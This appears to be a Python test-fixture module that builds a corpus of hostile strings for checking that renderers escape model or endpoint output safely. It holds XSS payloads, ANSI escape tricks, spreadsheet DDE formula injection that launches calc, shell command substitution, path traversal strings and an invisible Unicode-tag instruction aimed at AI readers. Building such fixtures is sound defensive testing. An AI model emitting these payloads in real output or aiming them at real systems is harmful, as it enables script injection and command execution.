"""Texts that a model, an endpoint or a prompt file may hold, each made to do harm where it is shown carelessly.

What takes one of them for HTML runs its script, which sets the global variable `pwned` (or opens a dialog), or fetches
something from the canary, a server on 127.0.0.1. `Hostile.does` says which, so that a test can first see that it is
so, and a .invalid host beside the canary shows a request that a proxy or a name server would have seen.
"""

from __future__ import annotations

import re
from typing import NamedTuple

RUNS, ASKS, CLICKED = "runs", "asks", "clicked"  # by itself; by itself, at the canary; runs or asks when pressed


class Hostile(NamedTuple):
    """name: for ids and for the canary's paths. does: of RUNS, ASKS, CLICKED, when a page takes the text for HTML."""

    name: str
    text: str
    does: tuple[str, ...] = ()


IMG = '<img src="http://CANARY/NAME" onerror="pwned=\'NAME\'">'
HTML = {
    "script": ("<script>pwned='NAME'</script>", RUNS),
    "script-src": ('<script src="//CANARY/NAME"></script><script src="http://NAME.invalid/x.js"></script>', ASKS),
    "img-onerror": (IMG, RUNS, ASKS),
    "img-alert": ('<img src="http://CANARY/NAME" onerror="alert(\'NAME\')">', RUNS, ASKS),
    "img-srcset": ('<img srcset="http://CANARY/NAME 1x, http://NAME.invalid/2 2x">', ASKS),
    "svg-onload": ("<svg onload=\"pwned='NAME'\"><title>a drawing</title></svg>", RUNS),
    "svg-image": ('<svg><image href="http://CANARY/NAME" /></svg>', ASKS),
    "svg-link": (
        "<svg width=90 height=30><a xlink:href=\"javascript:pwned='NAME'\"><text y=20>press</text></a></svg>",
        CLICKED,
    ),
    "details": ("<details open ontoggle=\"pwned='NAME'\"><summary>more</summary>of it</details>", RUNS),
    "body": ("</pre></td></table><body onload=\"pwned='NAME'\" onpageshow=\"pwned='NAME'\">", RUNS),
    "input": ("<input autofocus onfocus=\"pwned='NAME'\" value=here>", RUNS),
    "video": ('<video><source src="http://CANARY/NAME" onerror="pwned=\'NAME\'"></video>', RUNS, ASKS),
    "iframe-srcdoc": ("<iframe srcdoc=\"<script>pwned='NAME'</script>\"></iframe>", RUNS),
    "iframe-src": ('<iframe src="http://CANARY/NAME"></iframe>', ASKS),
    "iframe-javascript": ("<iframe src=\"javascript:parent.pwned='NAME'\"></iframe>", RUNS),
    "object": ('<object data="http://CANARY/NAME"></object>', ASKS),
    "embed": ('<embed src="http://CANARY/NAME">', ASKS),
    "math": ("<math href=\"javascript:pwned='NAME'\"><mtext>press</mtext></math>",),
    "form": ('<form action="http://CANARY/NAME"><button>press</button></form>', CLICKED),
    "formaction": ("<form><button formaction=\"javascript:pwned='NAME'\">press</button></form>", CLICKED),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=http://CANARY/NAME">', ASKS),
    "base": ('<base href="http://CANARY/"><img src="NAME">', ASKS),
    "link": ('<link rel="stylesheet" href="http://CANARY/NAME">', ASKS),
    "style-import": ('<style>@import url("http://CANARY/NAME"); p { color: red }</style>', ASKS),
    "style-url": ('<p style="background: url(http://CANARY/NAME)">coloured</p>', ASKS),
    "overlay": ('<div style="position: fixed; inset: 0; background: red">over everything</div>',),
    "a-javascript": ("<a href=\"javascript:pwned='NAME'\">press</a>", CLICKED),
    "a-vbscript": ("<a href=\"vbscript:pwned='NAME'\">press</a>",),
    "a-data": ('<a href="data:text/html,<script>opener.pwned=1</script>">press</a>',),
    "out-of-attribute": (f'"> {IMG}', RUNS, ASKS),
    "more-attributes": ('" onload="pwned=\'NAME\'" onerror="pwned=\'NAME\'" x="',),
    "more-attributes-single": ("' onload='pwned=\"NAME\"' onerror='pwned=\"NAME\"' x='",),
    "out-of-anything": (f"--></title></style></textarea></script></pre>{IMG}", RUNS, ASKS),
    "out-of-json": ("\"}</script><script>pwned='NAME'</script>", RUNS),
    "entities": ("&lt;script&gt;pwned='NAME'&lt;/script&gt; &#60;b&#62; &amp;lt;",),
    "unclosed": ('<img src="http://CANARY/NAME" onerror="pwned=\'NAME\'" ',),
}
MARKDOWN = {
    "md-javascript": ("[press](javascript:pwned='NAME') [press](<javascript:pwned='NAME'>)",),
    "md-vbscript": ("[press](vbscript:pwned) [press](data:text/html;base64,PHNjcmlwdD4=)",),
    "md-reference": ("[press][NAME] [NAME]\n\n[NAME]: javascript:pwned='NAME' 'title'",),
    "md-image": ("![picture](http://CANARY/NAME) ![](http://NAME.invalid/1.png)",),
    "md-image-reference": ('![picture][NAME]\n\n[NAME]: http://CANARY/NAME "title"',),
    "md-autolink": ("<javascript:pwned='NAME'> <http://CANARY/NAME> <me@NAME.invalid>",),
    "md-bare-link": ("http://CANARY/NAME www.NAME.invalid HTTPS://NAME.invalid ftp://NAME.invalid mailto:me@NAME",),
    "md-table": (f"a | b\n---|---\n1 | {IMG}\n| c |", RUNS, ASKS),
    "md-fence": (f"```\n{IMG}\n```\n~~~\n![picture](http://CANARY/NAME)\n~~~", RUNS, ASKS),
    "md-long-fence": (f"{'`' * 9}\n</code></pre>\n{'`' * 9}\n{IMG}\n{'~' * 9}", RUNS, ASKS),
    "md-backticks": ("` `` ``` a ```` b `c` ``d``",),
    "md-heading": ("Setext\n===\n# Heading\n\nother\n---\n***",),
    "md-list": ("1. one\n- [ ] task\n+ plus\n2) two\n    code",),
    "md-footnote": ("a note[^1]\n\n[^1]: http://CANARY/NAME",),
    "md-comment": ("<!-- hidden --> shown <!-- open",),
    "md-block": (f"<div>\n\n{IMG}\n\n</div>", RUNS, ASKS),
    "md-emphasis": ("**bold** __init__ *it* ~~gone~~ ==mark== ^up^ \\",),
    "md-front-matter": ("---\ntitle: new\n---\n\n> quoted",),
    "md-nested": ("[" * 400 + "deep" + "](x)" * 400,),
    "md-mermaid": (
        f'```mermaid\nflowchart LR\n  A["{IMG}"] --> B\n  click A "javascript:pwned=\'NAME\'"\n```',
        RUNS,
        ASKS,
    ),
    "md-plotly": ('```vega-lite\n{"data": {"url": "http://CANARY/NAME"}, "mark": "bar"}\n```',),
}
TERMINAL = {
    "ansi-colour": ("\x1b[31mred\x1b[0m as before",),
    "ansi-cursor": ("\x1b[2J\x1b[Hcleared \x1b[1A\x1b[2Kover it \x1b[6n",),
    "ansi-link": ("\x1b]8;;http://CANARY/NAME\x1b\\press\x1b]8;;\x1b\\",),
    "ansi-clipboard": ("\x1b]52;c;cHduZWQ=\x07copied",),
    "ansi-title": ("\x1b]0;pwned NAME\x07titled",),
    "ansi-c1": ("\x9b31mred \x9d0;titled\x9c",),
    "overwritten": ("all failed\rall passed\b\b\b!",),
    "controls": ("nul\x00 bell\x07 delete\x7f form\x0cfeed tab\x0bdown",),
    "separators": ("one\u2028two\u2029three\x85four\x1cfive",),
    "bidi-override": ("\u202egnp.exe\u202c left",),
    "bidi-isolate": ("\u2067to the right\u2066 and\u2069\u2069 \u200fback \u061c",),
    "zero-width": ("in\u200bvis\u2060ible \ufeffmark soft\u00adhyphen",),
    "tags": ("flag" + "".join(chr(0xE0000 + ord(c)) for c in "obey me") + " end",),
    "surrogates": ("half \ud83d of one \udc00 end",),
    "no-characters": ("none \ufffe\uffff private \ue000 \U0010fffd",),
    "stacked": ("sta" + "\u0300\u0336" * 40 + "cked",),
}
SHEETS = {
    "formula": ("=1+1",),
    "formula-dde": ("=cmd|' /C calc'!A0",),
    "formula-at": ("@SUM(1+1)*cmd|' /C calc'!A0",),
    "formula-minus": ("-2+3+cmd|' /C calc'!A0",),
    "formula-plus": ("+49 30 1234",),
    "formula-link": ('=HYPERLINK("http://CANARY/NAME?x="&A1,"press")',),
    "formula-web": ('=WEBSERVICE("http://CANARY/NAME")',),
    "formula-tab": ("\t=1+1",),
    "formula-return": ("\r=1+1",),
    "formula-line": ("\n=1+1",),
    "formula-space": (" \u00a0=1+1",),
    "formula-hidden": ("\ufeff\u200b\x00=1+1",),
    "formula-wide": ("＝1+1",),
    "formula-wide-at": ("＠SUM(1)",),
    "formula-quoted": ('"=1+1",=2+2',),
}
CODE = {
    "templates": ("{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {#hidden#}",),
    "formats": ("%s %n %d %(name)s {0.__class__} {} {name!r} {0:>9999999}",),
    "shell": ("$(touch NAME) `touch NAME` ; touch NAME && echo 'a'\"b\" > NAME | cat $HOME !! *",),
    "parameters": ("# Parameters\nrounds = 99\nimport os",),
    "magic": ("%%html\n<script>pwned='NAME'</script>", RUNS),
    "bundle": ('{"text/html": "<script>pwned=\'NAME\'</script>", "application/javascript": "pwned=\'NAME\'"}', RUNS),
    "mathtext": ("$x^2$ $\\frac{1}{2}$ costs 5$ and 6$",),
    "mathtext-open": ("$\\frac{ never closed, 100 $",),
    "mathjax-link": (
        "$$\\href{javascript:pwned='NAME'}{press}$$ \\(\\unicode{x41}\\) \\[\\require{html}\\style{x}{y}\\]",
    ),
    "mathjax-block": (f"\\begin{{equation}}\\text{{{IMG}}}\\end{{equation}}", RUNS, ASKS),
    "place-holder": ("@@0@@ and @@1@@",),
    "path": ("../../etc/passwd C:\\con|a?*:\"<b>'",),
    "underscore": ("_hidden",),
    "nothing": ("nan",),
    "lines": ("two\r\nlines\n\n\nand more",),
    "joined": ("र्\u200dयाल नेपाली",),
    "long": ("x" * 100_000,),
    "long-words": ("many words " * 9_000,),
}


def corpus(port: int = 9) -> list[Hostile]:
    """All of them. port: of the canary; at 9, nobody listens."""
    found = {**HTML, **MARKDOWN, **TERMINAL, **SHEETS, **CODE}
    return [Hostile(name, _addressed(text, name, port), tuple(does)) for name, (text, *does) in found.items()]


def _addressed(text: str, name: str, port: int) -> str:
    return text.replace("NAME", name).replace("CANARY", f"127.0.0.1:{port}")


def words(text: str) -> list[str]:
    """What a reader reads: runs of letters and digits. The marks between them may be shown in other ways."""
    return re.findall(r"[^\W_]+", text)


def is_readable(text: str, shown: str) -> bool:
    """Whether all words of the text are shown, one after the other."""
    return " ".join(["", *words(text), ""]) in " ".join(["", *words(shown), ""])


def commands(shown: str, keep: str = "\n") -> list[str]:
    """The characters of a text that a terminal obeys, or that no reader sees: controls, directions, zero widths."""
    return [c for c in shown if not c.isprintable() and c not in keep + "\u200c\u200d"]
